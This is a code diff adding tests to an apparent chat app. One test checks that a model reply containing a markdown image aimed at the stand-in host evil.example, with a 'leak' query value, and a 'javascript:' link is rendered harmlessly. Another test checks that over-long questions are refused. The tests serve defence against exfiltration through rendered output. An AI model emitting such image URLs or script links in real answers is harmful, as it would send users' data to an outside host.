@@ -128,3 +128,19 @@ def test_passage_in_another_language_is_translated_on_demand(app_env, monkeypatc
     assert not app.exception
     assert "Texto traducido." in [i.value for i in app.info]
     assert seen[-1]["messages"][-1]["content"].startswith("Translate into German")
+
+
+def test_the_ask_page_shows_an_injected_image_as_a_link(app_env, monkeypatch):
+    reply = ["Tokens gelten eine Stunde [1]. ", "![](https://evil.example/p.png?q=", "leak) ", "[mehr](javascript:x)"]
+    with serve_chat(lambda _r: ChatReply(events=sse_events(reply))) as (url, _seen):
+        monkeypatch.setenv("POLYDESK_LLM_URL", url)
+        app = ask()
+    shown = [m.value for m in app.markdown]
+    assert "Tokens gelten eine Stunde [1]. [🖼 image](https://evil.example/p.png?q=leak) [mehr] (javascript:x)" in shown
+    assert not any("![" in text for text in shown)
+
+
+def test_a_too_long_question_is_refused_with_a_message(app_env):
+    app = ask("Wie lange gilt ein Token? " * 200)
+    assert any("more than the limit of 4,000" in e.value and "POLYDESK_MAX_QUESTION_CHARS" in e.value
+               for e in app.error)
